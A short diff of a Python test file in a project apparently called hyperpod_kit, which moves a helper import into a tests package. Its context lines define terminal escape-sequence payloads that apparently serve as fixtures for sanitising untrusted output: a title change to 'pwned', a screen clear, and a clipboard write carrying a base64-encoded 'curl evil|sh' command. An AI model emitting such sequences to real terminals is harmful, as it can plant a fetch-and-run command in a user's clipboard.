@@ -13,7 +13,6 @@ from typing import Any
 
 import pytest
 
-from hostile.checkpoints import put
 from hyperpod_kit.checkpoint.repository import tombstone
 from hyperpod_kit.checkpoint.repository.store.posix import PosixStore
 from hyperpod_kit.cli import output
@@ -25,6 +24,7 @@ from hyperpod_kit.remote.diagnose import Told, diagnose
 from hyperpod_kit.remote.target import Target
 from hyperpod_kit.run import Completed
 from hyperpod_kit.untrusted import terminal
+from tests.hostile.checkpoints import put
 
 ROOT = Path(__file__).parents[2]
 TITLE, CLIPBOARD, CLEAR = "\x1b]0;pwned\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b[2J\x1b[1;1H"
